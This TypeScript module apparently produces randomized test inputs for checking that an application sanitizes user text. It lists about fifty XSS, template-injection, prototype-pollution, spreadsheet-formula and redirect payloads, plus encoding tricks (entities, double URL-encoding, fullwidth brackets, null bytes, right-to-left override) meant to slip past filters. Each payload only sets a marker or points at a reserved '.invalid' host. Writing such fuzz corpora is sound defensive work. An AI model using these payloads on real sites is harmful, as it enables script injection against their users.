/** Texts that run a script, or reach for another server, wherever a page takes text for more than text. */
import type { Chance } from '#scripts/seeded.ts';

/** What a script that ran leaves on the window. */
export const mark = 'planted';
/** A name that no server can have (RFC 6761). */
export const foreignHost = 'foreign.invalid';

const code = `window.${mark}=1`;
const address = `https://${foreignHost}/`;

const templates: readonly string[] = [
  `<script>${code}</script>`,
  `<script src="${address}a.js"></script>`,
  `<img src=x onerror="${code}">`,
  `<img src="${address}pixel.png">`,
  `<svg onload="${code}"></svg>`,
  `<svg><animate onbegin="${code}" attributeName=x dur=1s></svg>`,
  `<svg><a href="javascript:${code}"><text y=20>tap</text></a></svg>`,
  `<math><mtext></mtext><mglyph><style><img src=x onerror="${code}"></style></mglyph></math>`,
  `<iframe srcdoc="<script>parent.${mark}=1</script>"></iframe>`,
  `<iframe src="javascript:parent.${mark}=1"></iframe>`,
  `<iframe src="${address}"></iframe>`,
  `<object data="${address}"></object>`,
  `<embed src="${address}">`,
  `<details open ontoggle="${code}">x</details>`,
  `<video><source onerror="${code}"></video>`,
  `<input autofocus onfocus="${code}">`,
  `<a href="javascript:${code}">tap</a>`,
  `<form action="${address}"><button>tap</button></form>`,
  `<button formaction="javascript:${code}">tap</button>`,
  `<link rel=stylesheet href="${address}a.css">`,
  `<style>@import url(${address}a.css);</style>`,
  `<div style="background:url(${address}a.png)">x</div>`,
  `<meta http-equiv=refresh content="0;url=${address}">`,
  `<base href="${address}">`,
  `<template><script>${code}</script></template>`,
  `</title><script>${code}</script>`,
  `</textarea><img src=x onerror="${code}">`,
  `--><script>${code}</script><!--`,
  `]]><script>${code}</script>`,
  `"><script>${code}</script>`,
  `'><img src=x onerror='${code}'>`,
  `" autofocus onfocus="${code}" x="`,
  `javascript:${code}`,
  `java\tscript:${code}`,
  `data:text/html,<script>${code}</script>`,
  `vbscript:${code}`,
  `tel:112" onclick="${code}`,
  `2065550142;ext=<script>${code}</script>`,
  `{{constructor.constructor('${code}')()}}`,
  `\${(() => { ${code} })()}`,
  `#{${code}}`,
  `<%= ${code} %>`,
  `__proto__`,
  `constructor`,
  `{"__proto__":{"${mark}":1}}`,
  `=HYPERLINK("${address}","tap")`,
  `url(${address})`,
  `//${foreignHost}/`,
  `/\\${foreignHost}/`,
  `..%2f..%2f${foreignHost}`,
];

const entities = (text: string): string => text.replaceAll(/[<>"'&]/gu, (sign) => `&#${sign.codePointAt(0)};`);
const escapes = (text: string): string => text.replaceAll(/[<>]/gu, (sign) => `\\u${(sign.codePointAt(0) ?? 0).toString(16).padStart(4, '0')}`);
const wide = (text: string): string => text.replaceAll('<', '＜').replaceAll('>', '＞');
const mixed = (text: string): string => text.replaceAll(/script|onerror|onload|iframe|svg/gu, (word) => word.charAt(0).toUpperCase() + word.slice(1));

const disguises = {
  plain: (text: string) => text,
  mixed,
  entities,
  escapes,
  wide,
  encoded: encodeURIComponent,
  twice: (text: string) => encodeURIComponent(encodeURIComponent(text)),
  newline: (text: string) => text.replaceAll(' ', '\n'),
  nothing: (text: string) => `${text.slice(0, 1)}\u0000${text.slice(1)}`,
  turned: (text: string) => `\u202E${text}`,
} as const satisfies Record<string, (text: string) => string>;

const weights = { plain: 6, mixed: 2, entities: 1, escapes: 1, wide: 1, encoded: 1, twice: 1, newline: 1, nothing: 1, turned: 1 } as const satisfies Record<keyof typeof disguises, number>;
const before = ['', '', '', 'Ana ', '98.6', '36,8 ', 'Dr. ', '+1 206 555 0142 '] as const;

const drawn = <T>(list: readonly T[], chance: Chance, otherwise: T): T => list[chance.whole(0, list.length - 1)] ?? otherwise;

export const payload = (chance: Chance): string => drawn(before, chance, '') + disguises[chance.oneOf(weights)](drawn(templates, chance, code));
